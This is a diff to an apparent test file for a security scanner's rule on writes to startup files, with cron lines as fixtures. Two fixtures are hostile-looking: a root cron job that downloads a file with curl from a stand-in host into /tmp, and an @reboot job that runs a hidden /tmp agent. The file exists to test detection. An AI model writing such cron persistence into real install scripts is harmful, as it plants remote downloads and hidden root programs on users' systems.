@@ -69,3 +69,15 @@ def test_a_download_saved_then_run_through_a_variable_is_critical_a_saved_archiv
             "    os.system(DROP)\n"
             "    os.system(DATA)\n")
     assert _by_line("shell-command-downloads-file", text, "setup_helpers.py") == {5: "critical"}
+
+
+def test_a_cron_line_starting_an_installed_program_is_medium_a_download_or_temp_program_high():
+    text = ("def f():\n"
+            "    with open('/etc/cron.d/a', 'w') as fh:\n"
+            "        fh.write('0 3 * * * root /usr/sbin/logrotate /etc/logrotate.d/app\\n')\n"
+            "    with open('/etc/cron.d/b', 'w') as fh:\n"
+            "        fh.write('*/5 * * * * root /usr/bin/curl -s https://x.example/a -o /tmp/a\\n')\n"
+            "    with open('/etc/cron.d/c', 'w') as fh:\n"
+            "        fh.write('@reboot root /tmp/.x/agent\\n')\n")
+    found = _by_line("shell-startup-file-write", text, "install.py")
+    assert {line: sev for line, sev in found.items() if line in (3, 5, 7)} == {3: "medium", 5: "high", 7: "high"}
